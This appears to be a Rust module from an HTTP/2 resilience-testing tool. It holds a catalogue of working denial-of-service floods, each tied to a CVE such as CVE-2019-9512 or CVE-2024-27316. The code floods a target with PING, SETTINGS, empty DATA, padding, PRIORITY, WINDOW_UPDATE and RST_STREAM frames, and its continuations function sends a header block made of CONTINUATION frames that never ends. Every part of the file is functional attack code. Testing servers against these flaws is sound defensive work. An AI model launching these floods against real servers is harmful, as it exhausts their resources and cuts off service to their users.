//! Frames that are cheap to send and cost something to take, without end.

use super::{AFTER_A_FLOOD, Attack, Outcome, Target};
use crate::frame::{self, flag, frame, kind, push, window_update};
use crate::h2::H2;
use crate::hpack;
use crate::wire::Sent;
use std::io;

pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "flood of pings",
        source: "CVE-2019-9512",
        run: |target| flood(target, Reads::Yes, &[], &frame(kind::PING, 0, 0, b"12345678")),
    },
    Attack {
        name: "flood of pings, answers unread",
        source: "CVE-2019-9512",
        run: |target| flood(target, Reads::No, &[], &frame(kind::PING, 0, 0, b"12345678")),
    },
    Attack {
        name: "flood of settings",
        source: "CVE-2019-9515",
        run: |target| flood(target, Reads::Yes, &[], &frame::settings(&[])),
    },
    Attack {
        name: "flood of settings, answers unread",
        source: "CVE-2019-9515",
        run: |target| flood(target, Reads::No, &[], &frame::settings(&[(frame::setting::INITIAL_WINDOW_SIZE, 1)])),
    },
    Attack {
        name: "flood of empty data frames",
        source: "CVE-2019-9518",
        run: |target| flood(target, Reads::Yes, &open_post(target), &frame(kind::DATA, 0, 1, b"")),
    },
    Attack {
        name: "flood of data frames of one byte",
        source: "CVE-2019-9518",
        run: |target| flood(target, Reads::Yes, &open_post(target), &frame(kind::DATA, 0, 1, b" ")),
    },
    Attack {
        name: "flood of padding",
        source: "CVE-2019-9518; RFC 9113, 6.1",
        run: |target| flood(target, Reads::Yes, &open_post(target), &frame(kind::DATA, 8, 1, &[255; 256])),
    },
    Attack {
        name: "flood of priorities",
        source: "CVE-2019-9513",
        run: |target| flood(target, Reads::Yes, &[], &frame(kind::PRIORITY, 0, 1, &[0, 0, 0, 3, 7])),
    },
    Attack {
        name: "flood of window updates",
        source: "RFC 9113, 10.5",
        run: |target| flood(target, Reads::Yes, &[], &window_update(0, 1)),
    },
    Attack {
        name: "flood of resets of a closed stream",
        source: "RFC 9113, 10.5",
        run: |target| flood(target, Reads::Yes, &closed_stream(target), &frame::reset(1, 8)),
    },
    Attack {
        name: "flood of unknown frames",
        source: "RFC 9113, 4.1 and 10.5",
        run: |target| flood(target, Reads::Yes, &[], &frame(kind::UNKNOWN, 0, 0, b"12345678")),
    },
    Attack {
        name: "flood of continuations of one byte",
        source: "CVE-2024-27316 and its like",
        run: |target| continuations(target, 1),
    },
    Attack {
        name: "flood of empty continuations",
        source: "CVE-2024-27316 and its like",
        run: |target| continuations(target, 0),
    },
    Attack {
        name: "flood of full continuations",
        source: "CVE-2024-27316 and its like",
        run: |target| continuations(target, 16 * 1024),
    },
];

#[derive(Clone, Copy, PartialEq, Eq)]
enum Reads {
    Yes,
    No,
}

/// Frames of one flood.
const FRAMES: usize = 200_000;
/// Bytes for each write.
const WRITE: usize = 16 * 1024;

/// Sends `prelude`, then `one` again and again, until stopped.
fn flood(target: &Target, reads: Reads, prelude: &[u8], one: &[u8]) -> io::Result<Outcome> {
    let mut connection = H2::open(target.address, &[])?;
    connection.send(prelude);
    let count = WRITE.div_ceil(one.len());
    let batch = one.repeat(count);
    let mut left = FRAMES;
    while left > 0 {
        left = left.saturating_sub(count);
        let sent = connection.send(&batch);
        if sent != Sent::All || reads == Reads::Yes && connection.look().goaway.is_some() {
            break;
        }
    }
    Ok(Outcome::of_h2(connection, AFTER_A_FLOOD))
}

fn open_post(target: &Target) -> Vec<u8> {
    let block = hpack::request("POST", &target.post, &[("content-type", "application/json")]);
    frame(kind::HEADERS, flag::END_HEADERS, 1, &block)
}

fn closed_stream(target: &Target) -> Vec<u8> {
    let mut bytes = Vec::new();
    let block = hpack::request("GET", &target.get, &[]);
    push(&mut bytes, kind::HEADERS, flag::END_HEADERS | flag::END_STREAM, 1, &block);
    bytes
}

/// A header block that does not end.
fn continuations(target: &Target, length: usize) -> io::Result<Outcome> {
    let block = hpack::request("GET", &target.get, &[]);
    let begin = frame(kind::HEADERS, flag::END_STREAM, 1, &block);
    // A field that goes into no table: 0, then the lengths of name and value. Pieces of one byte say
    // the same slowly.
    let mut field = Vec::new();
    hpack::literal(&mut field, b"x", &[b'y'; 124]);
    if length == 1 {
        let whole: Vec<u8> = field.iter().flat_map(|byte| frame(kind::CONTINUATION, 0, 1, &[*byte])).collect();
        return flood(target, Reads::Yes, &begin, &whole);
    }
    let payload: Vec<u8> = field.iter().copied().cycle().take(length - length % field.len().max(1)).collect();
    flood(target, Reads::Yes, &begin, &frame(kind::CONTINUATION, 0, 1, &payload))
}
